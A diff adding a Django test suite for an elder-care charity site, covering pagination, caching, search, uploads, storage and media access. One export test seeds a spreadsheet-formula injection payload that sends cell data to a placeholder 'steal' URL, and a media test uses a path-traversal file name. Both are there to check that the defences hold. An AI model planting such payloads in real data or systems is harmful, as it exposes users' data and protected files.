@@ -1,3 +1,893 @@
-from django.test import TestCase
+import io
+import os
+import shutil
+import signal
+import smtplib
+import tempfile
+from datetime import timedelta
+from importlib import import_module
+from unittest import mock
 
-# Create your tests here.
+from django.apps import apps
+from django.conf import settings
+from django.contrib.auth.models import User
+from django.core import mail
+from django.core.cache import cache
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.files.base import ContentFile
+from django.core.files.storage import default_storage
+from django.core.management import call_command
+from django.db import connection
+from django.db.migrations.loader import MigrationLoader
+from django.http import QueryDict
+from django.test import Client, RequestFactory, TestCase, override_settings
+from django.test.utils import CaptureQueriesContext
+from django.urls import reverse
+from django.utils import timezone
+from PIL import Image
+
+from .cache import get_generations
+from .idfilter import ID_FILTERS, might_exist
+from .imports import import_csv, records_imported
+from .jobs import RETRY_MAX_SECONDS, TASKS, claim_jobs, enqueue, release_job, retry_delay, run_job, task
+from .models import (
+    ContactInquiry, Donation, Elder, ImportRun, Job, MediaBlob, MediaReference, Notification, RegistrationSequence,
+    ResumableUpload, Testimonial, Volunteer,
+)
+from .notifications import RateLimiter, flush_outbox, send_pending
+from .pagination import CursorPaginator
+from .resumable import UploadError, completed_uploads, create_upload, partial_path
+from .search import TrigramIndex, get_trigram_index, record_search_change, search
+from .stats import dashboard_stats, home_stats
+from .storage import ContentAddressedStorage, blob_name
+from .tasks import print_card_sheets
+from .transitions import status_changed, transition
+from .uploads import ImportUploadHandler, StreamingUploadHandler
+
+
+def make_elder(**fields):
+    values = {
+        'full_name': 'Sita Devi', 'photo': 'elders/photo.jpg', 'age': 72, 'address': 'Kamalbasant',
+        'id_proof': 'elders/id.pdf', 'guardian_name': 'Ram Devi', 'guardian_contact': '+9771234567890',
+    }
+    values.update(fields)
+    return Elder.objects.create(**values)
+
+
+# Tests render templates without running collectstatic first
+TEST_STORAGES = {
+    **settings.STORAGES,
+    'staticfiles': {'BACKEND': 'django.contrib.staticfiles.storage.StaticFilesStorage'},
+}
+
+
+@override_settings(STORAGES=TEST_STORAGES)
+class AppTestCase(TestCase):
+    def setUp(self):
+        cache.clear()
+
+
+class MediaTestCase(AppTestCase):
+    """Test case whose files go to an empty MEDIA_ROOT, removed afterwards"""
+
+    def setUp(self):
+        super().setUp()
+        media_root = tempfile.mkdtemp()
+        self.addCleanup(shutil.rmtree, media_root, ignore_errors=True)
+        upload_temp_dir = os.path.join(media_root, 'tmp')
+        os.mkdir(upload_temp_dir)
+        media_settings = override_settings(MEDIA_ROOT=media_root, FILE_UPLOAD_TEMP_DIR=upload_temp_dir)
+        media_settings.enable()
+        self.addCleanup(media_settings.disable)
+
+
+class AdminListPaginationTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        self.client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+        values = {'donor_name': 'Hari', 'donor_email': 'hari@example.com', 'donor_phone': '+9771234567890',
+                  'description': 'Rice'}
+        Donation.objects.bulk_create(
+            [Donation(donation_type='food', status='pending', **values) for _ in range(45)]
+            + [Donation(donation_type='clothes', status='pending', **values) for _ in range(5)]
+            + [Donation(donation_type='food', status='fulfilled', **values) for _ in range(5)]
+        )
+        # Equal timestamps, so pages must break ties on the id
+        tied = list(Donation.objects.order_by('pk').values_list('pk', flat=True)[10:30])
+        Donation.objects.filter(pk__in=tied).update(created_at=timezone.now())
+        self.expected = list(
+            Donation.objects.filter(status='pending', donation_type='food').order_by('-created_at', '-pk')
+            .values_list('pk', flat=True)
+        )
+
+    def get_page(self, query):
+        with CaptureQueriesContext(connection) as queries:
+            response = self.client.get(f'{reverse("admin_donations")}?{query}')
+        self.assertEqual(response.status_code, 200)
+        for captured in queries:
+            self.assertNotIn('OFFSET', captured['sql'])
+            self.assertNotIn('COUNT(', captured['sql'])
+        return response.context['page']
+
+    def test_walk_next_and_previous_keeping_filters(self):
+        pages = [self.get_page('status=pending&type=food')]
+        while pages[-1].has_next():
+            query = QueryDict(pages[-1].next_query)
+            self.assertEqual((query['status'], query['type']), ('pending', 'food'))
+            pages.append(self.get_page(pages[-1].next_query))
+        self.assertEqual([donation.pk for page in pages for donation in page], self.expected)
+        self.assertEqual([len(page) for page in pages], [20, 20, 5])
+
+        page = pages[-1]
+        for previous in reversed(pages[:-1]):
+            self.assertTrue(page.has_previous())
+            page = self.get_page(page.previous_query)
+            self.assertEqual([donation.pk for donation in page], [donation.pk for donation in previous])
+        self.assertFalse(page.has_previous())
+
+    def test_cursor_links_keep_the_search(self):
+        page = CursorPaginator(Donation.objects.all(), 20).get_page(QueryDict('search=Hari&status=pending&page=3'))
+        query = QueryDict(page.next_query)
+        self.assertEqual((query['search'], query['status']), ('Hari', 'pending'))
+        self.assertNotIn('page', query)
+
+    def test_invalid_cursor_starts_over(self):
+        page = self.get_page('status=pending&type=food&cursor=forged')
+        self.assertEqual([donation.pk for donation in page], self.expected[:20])
+
+
+class AdminListViewTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        self.client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+        make_elder()
+
+    def test_admin_lists_render(self):
+        for name in ('admin_elders', 'admin_volunteers', 'admin_donations', 'admin_inquiries'):
+            for query in ('', '?search=Sita', '?status=pending'):
+                with self.subTest(view=name, query=query):
+                    response = self.client.get(reverse(name) + query)
+                    self.assertEqual(response.status_code, 200)
+
+    def test_admin_elders_search_finds_elder(self):
+        response = self.client.get(reverse('admin_elders') + '?search=Sita')
+        self.assertContains(response, 'Sita Devi')
+
+
+class PageCacheTests(AppTestCase):
+    @override_settings(PAGE_CACHE_TIMEOUT=42)
+    def test_public_page_expires_after_page_cache_timeout(self):
+        with mock.patch.object(cache, 'set', wraps=cache.set) as cache_set:
+            self.assertEqual(self.client.get(reverse('about'))['X-Page-Cache'], 'MISS')
+        timeouts = [call.args[2] for call in cache_set.call_args_list if call.args[0].startswith('page:')]
+        self.assertEqual(timeouts, [42])
+        self.assertEqual(self.client.get(reverse('about'))['X-Page-Cache'], 'HIT')
+
+
+class IssuedIdFilterTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        ID_FILTERS[Elder].generation = None
+        ID_FILTERS[Elder].refreshing = False
+        # Built before the elder below exists, as in a process that missed its bump
+        might_exist(Elder, 'VK2026-0000')
+        # bulk_create sends no post_save, so nothing bumps the generation
+        Elder.objects.bulk_create([Elder(
+            full_name='Sita Devi', age=72, address='Kamalbasant', registration_id='VK2026-0001',
+            guardian_name='Ram Devi', guardian_contact='+9771234567890',
+        )])
+
+    @override_settings(ID_FILTER_MAX_AGE=3600)
+    def test_fresh_filter_answers_misses_without_queries(self):
+        with self.assertNumQueries(0):
+            self.assertFalse(might_exist(Elder, 'VK2026-0002'))
+
+    @override_settings(ID_FILTER_MAX_AGE=0)
+    def test_old_filter_is_refreshed_in_the_background(self):
+        id_filter = ID_FILTERS[Elder]
+        with mock.patch.object(id_filter, 'refresh_later') as refresh_later:
+            with self.assertNumQueries(0):
+                self.assertFalse(might_exist(Elder, 'VK2026-0001'))
+                self.assertFalse(might_exist(Elder, 'VK2026-0002'))
+        # One refresh at a time
+        refresh_later.assert_called_once()
+        id_filter.refresh()
+        with override_settings(ID_FILTER_MAX_AGE=3600), self.assertNumQueries(0):
+            self.assertTrue(might_exist(Elder, 'VK2026-0001'))
+            self.assertFalse(might_exist(Elder, 'VK2026-0002'))
+
+    def test_ids_issued_during_a_refresh_are_kept(self):
+        id_filter = ID_FILTERS[Elder]
+        id_filter.refreshing = True
+        id_filter.add('VK2026-0003')
+        id_filter.refresh()
+        self.assertIn('VK2026-0003', id_filter.bloom)
+
+
+class StatsRefreshTests(AppTestCase):
+    def test_not_queued_on_a_process_local_cache(self):
+        make_elder()
+        self.assertFalse(Job.objects.filter(task='stats.refresh').exists())
+
+    def test_queued_once_on_a_shared_cache(self):
+        with mock.patch('app.signals.cache_is_shared', return_value=True):
+            make_elder()
+            make_elder(full_name='Gita Devi')
+        self.assertEqual(Job.objects.filter(task='stats.refresh').count(), 1)
+
+
+class ImportInvalidationTests(AppTestCase):
+    CSV = (
+        'Full name,Age,Address,Guardian,Guardian contact\n'
+        'Sita Devi,72,Kamalbasant,Ram Devi,+9771234567890\n'
+        'Gita Devi,80,Kamalbasant,Hari Devi,+9771234567891\n'
+    )
+
+    def test_each_committed_batch_bumps_the_generation(self):
+        sent = []
+        records_imported.connect(lambda sender, count, **kwargs: sent.append(count), weak=False, dispatch_uid='test')
+        self.addCleanup(records_imported.disconnect, dispatch_uid='test')
+        before = get_generations(Elder)[0]
+        with self.captureOnCommitCallbacks(execute=True):
+            created, rejected = import_csv(Elder, io.BytesIO(self.CSV.encode()), batch_size=1)
+        self.assertEqual((created, rejected), (2, 0))
+        self.assertEqual(sent, [1, 1])
+        self.assertEqual(get_generations(Elder)[0], before + 2)
+
+
+class ExportTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        self.client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+
+    def test_csv_quotes_formula_like_text(self):
+        ContactInquiry.objects.create(
+            name='Mallory', email='mallory@example.com', phone='+9771234567890',
+            subject='=HYPERLINK("http://example.com/steal?"&A1,"Click")', message='@SUM(1+1)',
+        )
+        response = self.client.get(reverse('admin_export', args=['inquiries']) + '?format=csv')
+        content = b''.join(response.streaming_content).decode('utf-8-sig')
+        self.assertIn("\"'=HYPERLINK(\"\"http://example.com/steal?\"\"&A1,\"\"Click\"\")\"", content)
+        self.assertIn("'@SUM(1+1)", content)
+        self.assertIn("'+9771234567890", content)
+        self.assertNotIn(',=HYPERLINK', content)
+
+
+class StatsTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        make_elder()
+        make_elder(full_name='Gita Devi', status='approved')
+        make_elder(full_name='Maya Devi', status='rejected')
+        Donation.objects.create(
+            donor_name='Hari', donor_email='hari@example.com', donor_phone='+9771234567890',
+            donation_type='food', description='Rice', status='fulfilled',
+        )
+        ContactInquiry.objects.create(
+            name='Hari', email='hari@example.com', phone='+9771234567890', subject='Visit', message='Hello',
+        )
+
+    def test_dashboard_stats_one_query_per_model(self):
+        with self.assertNumQueries(4):
+            stats = dashboard_stats()
+        self.assertEqual(
+            (stats['total_elders'], stats['pending_elders'], stats['approved_elders'], stats['rejected_elders']),
+            (3, 1, 1, 1),
+        )
+        self.assertEqual((stats['total_volunteers'], stats['pending_volunteers']), (0, 0))
+        self.assertEqual((stats['total_donations'], stats['fulfilled_donations']), (1, 1))
+        self.assertEqual((stats['total_inquiries'], stats['unresolved_inquiries']), (1, 1))
+
+    def test_home_stats_one_query_per_model(self):
+        with self.assertNumQueries(3):
+            stats = home_stats()
+        self.assertEqual(stats, {'total_elders': 3, 'approved_elders': 1, 'active_volunteers': 0, 'total_donations': 1})
+
+    def test_dashboard_queries_do_not_grow_with_rows(self):
+        self.client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+        with CaptureQueriesContext(connection) as before:
+            self.client.get(reverse('admin_dashboard'))
+        for number in range(5):
+            make_elder(full_name=f'Elder {number}')
+        # Compare two renders without cached fragments
+        cache.clear()
+        with CaptureQueriesContext(connection) as after:
+            self.assertEqual(self.client.get(reverse('admin_dashboard')).status_code, 200)
+        self.assertEqual(len(after), len(before))
+
+
+class AdminListIndexTests(AppTestCase):
+    # Admin list URL -> index its list query should be answered from
+    LIST_INDEXES = {
+        'admin_elders': 'elder_created_idx',
+        'admin_elders?status=pending': 'elder_status_created_idx',
+        'admin_volunteers?status=approved': 'volunteer_status_created_idx',
+        'admin_donations?status=pending': 'donation_status_created_idx',
+        'admin_donations?type=food': 'donation_type_created_idx',
+        'admin_donations?status=pending&type=food': 'donation_status_type_idx',
+        'admin_inquiries?resolved=unresolved': 'inquiry_resolved_created_idx',
+    }
+
+    def test_indexes_in_migrations_and_database(self):
+        state = MigrationLoader(connection).project_state()
+        with connection.cursor() as cursor:
+            for model in (Elder, Volunteer, Donation, Testimonial, ContactInquiry):
+                migrated = {index.name for index in state.models['app', model._meta.model_name].options['indexes']}
+                constraints = connection.introspection.get_constraints(cursor, model._meta.db_table)
+                for index in model._meta.indexes:
+                    with self.subTest(index=index.name):
+                        self.assertIn(index.name, migrated)
+                        self.assertTrue(constraints[index.name]['index'])
+                        columns = [model._meta.get_field(field).column for field in index.fields]
+                        self.assertEqual(constraints[index.name]['columns'], columns)
+
+    def test_admin_list_queries_use_indexes(self):
+        self.client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+        for url, index in self.LIST_INDEXES.items():
+            name, _, query = url.partition('?')
+            table = {
+                'admin_elders': Elder, 'admin_volunteers': Volunteer,
+                'admin_donations': Donation, 'admin_inquiries': ContactInquiry,
+            }[name]._meta.db_table
+            with self.subTest(url=url), CaptureQueriesContext(connection) as queries:
+                if connection.vendor == 'sqlite' and 'resolved=' in query:
+                    # Django writes "NOT is_resolved" here, which no SQLite index
+                    # serves; MySQL gets "is_resolved = false"
+                    self.skipTest('boolean filter is not sargable on SQLite')
+                self.client.get(f'{reverse(name)}?{query}')
+                sql = next(
+                    captured['sql'] for captured in queries
+                    if f'FROM {connection.ops.quote_name(table)}' in captured['sql'] and 'ORDER BY' in captured['sql']
+                )
+                with connection.cursor() as cursor:
+                    cursor.execute(f'{connection.ops.explain_query_prefix()} {sql}')
+                    plan = str(cursor.fetchall())
+                self.assertIn(index, plan)
+
+
+class IdCardSheetTests(MediaTestCase):
+    def setUp(self):
+        super().setUp()
+        self.client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+        self.elder = make_elder(status='approved')
+
+    def test_admin_action_queues_the_render(self):
+        response = self.client.post(reverse('admin:app_elder_changelist'), {
+            'action': 'print_id_cards', '_selected_action': [self.elder.pk],
+        }, follow=True)
+        self.assertEqual(response.status_code, 200)
+        job = Job.objects.get(task='idcards.print_sheets')
+        self.assertEqual(job.payload['pks'], [self.elder.pk])
+        self.assertContains(response, reverse('protected_media', args=[job.payload['name']]))
+
+    def test_job_stores_the_sheets(self):
+        name = 'idcards/sheets/test/elder_id_cards.pdf'
+        print_card_sheets(kind='elder', pks=[self.elder.pk], name=name)
+        with default_storage.open(name) as sheets:
+            self.assertEqual(sheets.read(5), b'%PDF-')
+
+
+class ResumableUploadTests(MediaTestCase):
+    def make_upload(self):
+        upload = ResumableUpload.objects.create(field_name='photo', filename='photo.jpg', length=4, offset=4)
+        os.makedirs(os.path.dirname(partial_path(upload)), exist_ok=True)
+        with open(partial_path(upload), 'wb') as handle:
+            handle.write(b'\xff\xd8\xff\xe0')
+        return upload
+
+    def test_completed_uploads_are_closed(self):
+        upload = self.make_upload()
+        request = RequestFactory().post('/', {'photo_upload': str(upload.token)})
+        with completed_uploads(request, ['photo']) as (files, claimed):
+            self.assertEqual(claimed, [upload])
+            photo = files['photo']
+            self.assertEqual(photo.read(), b'\xff\xd8\xff\xe0')
+        self.assertTrue(photo.closed)
+
+    def test_job_worker_removes_expired_uploads(self):
+        upload = self.make_upload()
+        ResumableUpload.objects.filter(pk=upload.pk).update(updated_at=upload.updated_at - timedelta(days=2))
+        # run_jobs takes over SIGINT/SIGTERM for graceful shutdown
+        for signum in (signal.SIGINT, signal.SIGTERM):
+            self.addCleanup(signal.signal, signum, signal.getsignal(signum))
+        call_command('run_jobs', '--once', stdout=io.StringIO(), stderr=io.StringIO())
+        self.assertFalse(ResumableUpload.objects.filter(pk=upload.pk).exists())
+        self.assertFalse(os.path.exists(partial_path(upload)))
+
+
+class TrigramSearchTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        self.kumar = make_elder(full_name='Ramesh Kumar', guardian_name='Anil Kumar')
+        self.prasad = make_elder(full_name='Rameshwar Prasad', guardian_name='Gita Prasad')
+        self.sharma = make_elder(full_name='Suresh Sharma', guardian_name='Mohan Sharma')
+
+    def test_results_are_ranked_by_closeness(self):
+        results = search(Elder.objects.all(), 'ramesh kumar')
+        self.assertEqual(results[0], self.kumar)
+        self.assertNotIn(self.sharma, results)
+
+    def test_queryset_filters_still_apply(self):
+        Elder.objects.filter(pk=self.kumar.pk).update(status='approved')
+        self.assertEqual(search(Elder.objects.filter(status='pending'), 'ramesh'), [self.prasad])
+
+    def test_short_queries_use_icontains(self):
+        with mock.patch.object(TrigramIndex, 'rebuild') as rebuild:
+            results = search(Elder.objects.all(), 'ku')
+        rebuild.assert_not_called()
+        self.assertEqual(results, [self.kumar])
+
+    def test_committed_changes_update_the_index_in_place(self):
+        search(Elder.objects.all(), 'ramesh')
+        with self.captureOnCommitCallbacks(execute=True):
+            added = make_elder(full_name='Ramesh Thapa')
+        with self.captureOnCommitCallbacks(execute=True):
+            self.kumar.delete()
+        with mock.patch.object(TrigramIndex, 'rebuild') as rebuild:
+            results = search(Elder.objects.all(), 'ramesh')
+        rebuild.assert_not_called()
+        self.assertIn(added, results)
+        self.assertNotIn(self.kumar.full_name, [elder.full_name for elder in results])
+
+    def test_uncommitted_changes_are_not_indexed(self):
+        index = get_trigram_index(Elder)
+        index.ensure_current()
+        added = make_elder(full_name='Ramesh Thapa')
+        index.ensure_current()
+        self.assertNotIn(added.pk, index.documents)
+
+    def test_gap_in_the_change_log_rebuilds(self):
+        index = get_trigram_index(Elder)
+        index.ensure_current()
+        # A bulk change, e.g. an import batch, logs no pks
+        record_search_change(Elder)
+        with mock.patch.object(TrigramIndex, 'rebuild', autospec=True, side_effect=TrigramIndex.rebuild) as rebuild:
+            index.ensure_current()
+        rebuild.assert_called_once()
+
+
+@override_settings(UPLOAD_MAX_FILE_SIZE=1024, IMPORT_MAX_FILE_SIZE=64 * 1024)
+class ImportUploadLimitTests(MediaTestCase):
+    CSV = b'Full name,Age\n' + b'Sita Devi,72\n' * 400
+
+    def post_files(self, handler_class, files):
+        request = RequestFactory().post('/', files)
+        request.upload_handlers = [handler_class(request)]
+        for upload in request.FILES.values():
+            self.addCleanup(upload.close)
+        return request.FILES, request.upload_errors
+
+    def test_public_forms_do_not_take_the_import_limit(self):
+        files, errors = self.post_files(
+            StreamingUploadHandler, {'csv_file': SimpleUploadedFile('people.csv', self.CSV)}
+        )
+        self.assertNotIn('csv_file', files)
+        self.assertIn('Unsupported file type', errors['csv_file'])
+
+    def test_import_view_takes_large_csv_files(self):
+        files, errors = self.post_files(ImportUploadHandler, {'csv_file': SimpleUploadedFile('people.csv', self.CSV)})
+        self.assertEqual(files['csv_file'].size, len(self.CSV))
+        self.assertEqual(errors, {})
+
+    def test_resumable_uploads_reject_csv_files(self):
+        metadata = 'field Y3N2X2ZpbGU=,filename cGVvcGxlLmNzdg=='
+        with self.assertRaises(UploadError) as raised:
+            create_upload('100', metadata)
+        self.assertEqual(raised.exception.status, 400)
+
+    def test_admin_import_accepts_a_csv_over_the_public_limit(self):
+        # With CSRF checks on, so the middleware would read the body first if
+        # the view weren't exempt from it
+        client = Client(enforce_csrf_checks=True)
+        client.force_login(User.objects.create_superuser('admin', 'admin@example.com', 'password'))
+        url = reverse('admin:app_importrun_add')
+        client.get(url)
+        data = {'model_name': 'elder', 'csv_file': SimpleUploadedFile('people.csv', self.CSV)}
+        self.assertEqual(client.post(url, data).status_code, 403)
+        data['csrfmiddlewaretoken'] = client.cookies[settings.CSRF_COOKIE_NAME].value
+        data['csv_file'].seek(0)
+        with mock.patch('app.admin.enqueue'):
+            response = client.post(url, data)
+        self.assertEqual(response.status_code, 302)
+        run = ImportRun.objects.get()
+        self.assertEqual(run.csv_file.size, len(self.CSV))
+
+
+class TransitionTests(AppTestCase):
+    def setUp(self):
+        super().setUp()
+        self.staff = User.objects.create_user('staff', password='password', is_staff=True)
+        self.sent = []
+        status_changed.connect(self.record, sender=Elder)
+        self.addCleanup(status_changed.disconnect, self.record, sender=Elder)
+
+    def record(self, sender, action, pks, **kwargs):
+        self.sent.append(sorted(pks))
+
+    def test_approve_sets_the_audit_fields(self):
+        elder = make_elder(status='rejected', rejection_reason='Missing ID proof')
+        self.assertEqual(transition(Elder.objects.all(), 'approve', self.staff), 1)
+        elder.refresh_from_db()
+        self.assertEqual(elder.status, 'approved')
+        self.assertEqual(elder.approved_by, self.staff)
+        self.assertIsNotNone(elder.approved_at)
+        self.assertEqual(elder.rejection_reason, '')
+
+    def test_reject_clears_the_approval(self):
+        elder = make_elder(status='approved', approved_by=self.staff, approved_at=timezone.now())
+        transition(Elder.objects.all(), 'reject', self.staff, reason='Duplicate registration')
+        elder.refresh_from_db()
+        self.assertEqual((elder.status, elder.approved_by, elder.approved_at), ('rejected', None, None))
+        self.assertEqual(elder.rejection_reason, 'Duplicate registration')
+
+    def test_rows_already_in_the_target_status_are_left_alone(self):
+        approved_at = timezone.now() - timedelta(days=30)
+        earlier = make_elder(status='approved', approved_by=None, approved_at=approved_at)
+        pending = make_elder(full_name='Gita Devi')
+        self.assertEqual(transition(Elder.objects.all(), 'approve', self.staff), 1)
+        earlier.refresh_from_db()
+        self.assertEqual((earlier.approved_by, earlier.approved_at), (None, approved_at))
+        self.assertEqual(self.sent, [[pending.pk]])
+
+    def test_signal_is_sent_for_each_batch(self):
+        pks = [make_elder(full_name=f'Elder {number}').pk for number in range(5)]
+        with mock.patch('app.transitions.BATCH_SIZE', 2):
+            self.assertEqual(transition(Elder.objects.all(), 'approve', self.staff), 5)
+        self.assertEqual(self.sent, [pks[0:2], pks[2:4], pks[4:]])
+
+    def test_batch_rolls_back_when_its_follow_up_fails(self):
+        elder = make_elder()
+        with mock.patch('app.signals.enqueue', side_effect=RuntimeError):
+            with self.assertRaises(RuntimeError):
+                transition(Elder.objects.all(), 'approve', self.staff)
+        elder.refresh_from_db()
+        self.assertEqual(elder.status, 'pending')
+
+
+class RegistrationSequenceTests(AppTestCase):
+    def test_blocks_do_not_overlap(self):
+        first = RegistrationSequence.objects.reserve_block('VK', 3, year=2026)
+        second = RegistrationSequence.objects.reserve_block('VK', 2, year=2026)
+        self.assertEqual(first, ['VK2026-0001', 'VK2026-0002', 'VK2026-0003'])
+        self.assertEqual(second, ['VK2026-0004', 'VK2026-0005'])
+
+    def test_counters_are_kept_per_prefix_and_year(self):
+        RegistrationSequence.objects.reserve_block('VK', 5, year=2026)
+        self.assertEqual(RegistrationSequence.objects.reserve_block('VL', 1, year=2026), ['VL2026-0001'])
+        self.assertEqual(RegistrationSequence.objects.reserve_block('VK', 1, year=2027), ['VK2027-0001'])
+
+    def test_saved_rows_and_imports_draw_from_the_same_counter(self):
+        year = timezone.now().year
+        elder = make_elder()
+        block = RegistrationSequence.objects.reserve_block('VK', 2)
+        later = make_elder(full_name='Gita Devi')
+        ids = [elder.registration_id, *block, later.registration_id]
+        self.assertEqual(ids, [f'VK{year}-{number:04d}' for number in range(1, 5)])
+
+    def test_migration_seeds_counters_after_the_highest_issued_id(self):
+        Elder.objects.bulk_create([
+            Elder(full_name='Sita Devi', age=72, address='Kamalbasant', registration_id=value,
+                  guardian_name='Ram Devi', guardian_contact='+9771234567890')
+            for value in ['VK2025-0007', 'VK2025-0012', 'VK2026-0003', 'VK-legacy']
+        ])
+        import_module('app.migrations.0004_registrationsequence').seed_sequences(apps, None)
+        self.assertEqual(RegistrationSequence.objects.reserve_block('VK', 1, year=2025), ['VK2025-0013'])
+        self.assertEqual(RegistrationSequence.objects.reserve_block('VK', 1, year=2026), ['VK2026-0004'])
+
+
+@override_settings(UPLOAD_MAX_FILE_SIZE=1024)
+class RegistrationUploadTests(MediaTestCase):
+    JPEG = b'\xff\xd8\xff\xe0' + b'\0' * 100
+
+    def registration(self, **files):
+        return {
+            'full_name': 'Sita Devi', 'age': 72, 'address': 'Kamalbasant', 'guardian_name': 'Ram Devi',
+            'guardian_contact': '+9771234567890', 'guardian_relationship': 'Son',
+            'photo': SimpleUploadedFile('photo.jpg', self.JPEG),
+            'id_proof': SimpleUploadedFile('id.pdf', b'%PDF-1.4'),
+            **files,
+        }
+
+    def register(self, **files):
+        response = self.client.post(reverse('elder_register'), self.registration(**files))
+        self.assertEqual(response.status_code, 200)
+        self.assertFalse(Elder.objects.exists())
+        return response.context['form'].errors
+
+    def test_valid_files_are_accepted(self):
+        photo = io.BytesIO()
+        Image.new('RGB', (8, 8)).save(photo, 'JPEG')
+        data = self.registration(photo=SimpleUploadedFile('photo.jpg', photo.getvalue()))
+        response = self.client.post(reverse('elder_register'), data)
+        self.assertRedirects(response, reverse('elder_register'))
+        self.assertTrue(Elder.objects.exists())
+
+    def test_oversized_file_is_reported_on_its_field(self):
+        errors = self.register(photo=SimpleUploadedFile('photo.jpg', self.JPEG + b'\0' * 2048))
+        self.assertEqual(errors['photo'], ['File too large. Maximum size is 1.0\xa0KB.'])
+        self.assertNotIn('id_proof', errors)
+
+    def test_unsupported_extension_is_reported_on_its_field(self):
+        errors = self.register(id_proof=SimpleUploadedFile('id.exe', b'MZ'))
+        self.assertEqual(errors['id_proof'], ['Unsupported file type. Allowed: gif, jpeg, jpg, pdf, png, webp.'])
+
+    def test_content_not_matching_the_extension_is_reported(self):
+        errors = self.register(photo=SimpleUploadedFile('photo.png', self.JPEG))
+        self.assertEqual(errors['photo'], ['The file content does not match its extension.'])
+
+    @override_settings(UPLOAD_MAX_REQUEST_SIZE=2048, DATA_UPLOAD_MAX_MEMORY_SIZE=512)
+    def test_oversized_request_is_abandoned(self):
+        errors = self.register(photo=SimpleUploadedFile('photo.jpg', self.JPEG + b'\0' * 4096))
+        self.assertIn('The upload is too large', errors['photo'][0])
+
+
+class ContentAddressedStorageTests(MediaTestCase):
+    def setUp(self):
+        super().setUp()
+        self.storage = ContentAddressedStorage()
+
+    def test_identical_uploads_share_one_blob(self):
+        first = self.storage.save('elders/photos/a.jpg', ContentFile(b'same photo'))
+        second = self.storage.save('volunteers/photos/b.jpg', ContentFile(b'same photo'))
+        self.assertTrue(os.path.samefile(self.storage.path(first), self.storage.path(second)))
+        blob = MediaBlob.objects.get()
+        self.assertEqual(blob.size, len(b'same photo'))
+        self.assertEqual(blob.references.count(), 2)
+        self.assertTrue(os.path.samefile(self.storage.path(first), self.storage.path(blob_name(blob.digest))))
+
+    def test_different_content_gets_its_own_blob(self):
+        self.storage.save('elders/photos/a.jpg', ContentFile(b'one photo'))
+        self.storage.save('elders/photos/b.jpg', ContentFile(b'another photo'))
+        self.assertEqual(MediaBlob.objects.count(), 2)
+
+    def test_taken_names_get_a_new_name(self):
+        first = self.storage.save('elders/photos/a.jpg', ContentFile(b'one photo'))
+        second = self.storage.save('elders/photos/a.jpg', ContentFile(b'another photo'))
+        self.assertNotEqual(first, second)
+        with self.storage.open(first) as handle:
+            self.assertEqual(handle.read(), b'one photo')
+
+    def test_blob_is_kept_while_any_name_links_to_it(self):
+        first = self.storage.save('elders/photos/a.jpg', ContentFile(b'same photo'))
+        self.storage.save('elders/photos/b.jpg', ContentFile(b'same photo'))
+        self.storage.delete(first)
+        self.assertEqual(self.storage.collect_garbage(grace=0)['blobs'], 0)
+        self.assertEqual(MediaBlob.objects.count(), 1)
+
+    def test_orphaned_blobs_are_collected(self):
+        name = self.storage.save('elders/photos/a.jpg', ContentFile(b'old photo'))
+        path = self.storage.path(blob_name(MediaBlob.objects.get().digest))
+        self.storage.delete(name)
+        # Still within the grace period
+        self.assertEqual(self.storage.collect_garbage()['blobs'], 0)
+        self.assertEqual(self.storage.collect_garbage(grace=0, dry_run=True)['blobs'], 1)
+        self.assertTrue(os.path.exists(path))
+        removed = self.storage.collect_garbage(grace=0)
+        self.assertEqual((removed['blobs'], removed['bytes']), (1, len(b'old photo')))
+        self.assertFalse(os.path.exists(path))
+        self.assertFalse(MediaBlob.objects.exists())
+
+    def test_names_overwritten_outside_the_storage_lose_their_reference(self):
+        name = self.storage.save('elders/photos/a.jpg', ContentFile(b'old photo'))
+        os.remove(self.storage.path(name))
+        with open(self.storage.path(name), 'wb') as handle:
+            handle.write(b'edited by hand')
+        removed = self.storage.collect_garbage(grace=0)
+        self.assertEqual((removed['references'], removed['blobs']), (1, 1))
+        self.assertFalse(MediaReference.objects.exists())
+
+
+class ProtectedMediaTests(MediaTestCase):
+    def setUp(self):
+        super().setUp()
+        self.name = default_storage.save('elders/photos/photo.jpg', ContentFile(b'0123456789'))
+        self.url = reverse('protected_media', args=[self.name])
+        self.staff = User.objects.create_user('staff', password='password', is_staff=True)
+
+    def get(self, url=None, **headers):
+        self.client.force_login(self.staff)
+        return self.client.get(url or self.url, headers=headers)
+
+    def test_only_staff_can_fetch_media(self):
+        self.assertEqual(self.client.get(self.url).status_code, 302)
+        self.client.force_login(User.objects.create_user('visitor', password='password'))
+        self.assertEqual(self.client.get(self.url).status_code, 302)
+        response = self.get()
+        self.assertEqual(b''.join(response.streaming_content), b'0123456789')
+        self.assertEqual(response['Cache-Control'], 'private, no-cache')
+
+    def test_files_outside_the_upload_directories_are_not_served(self):
+        digest = MediaBlob.objects.get().digest
+        for name in (blob_name(digest), 'elders/../' + blob_name(digest), 'elders/photos/missing.jpg'):
+            with self.subTest(name=name):
+                self.assertEqual(self.get(reverse('protected_media', args=[name])).status_code, 404)
+
+    def test_matching_etag_gets_not_modified(self):
+        etag = self.get()['ETag']
+        response = self.get(if_none_match=etag)
+        self.assertEqual(response.status_code, 304)
+        self.assertEqual(response['ETag'], etag)
+        self.assertEqual(self.get(if_none_match='"other"').status_code, 200)
+
+    def test_byte_ranges(self):
+        for header, content, content_range in [
+            ('bytes=2-5', b'2345', 'bytes 2-5/10'),
+            ('bytes=7-', b'789', 'bytes 7-9/10'),
+            ('bytes=-3', b'789', 'bytes 7-9/10'),
+            ('bytes=8-100', b'89', 'bytes 8-9/10'),
+        ]:
+            with self.subTest(header=header):
+                response = self.get(range=header)
+                self.assertEqual(response.status_code, 206)
+                self.assertEqual(b''.join(response.streaming_content), content)
+                self.assertEqual(response['Content-Range'], content_range)
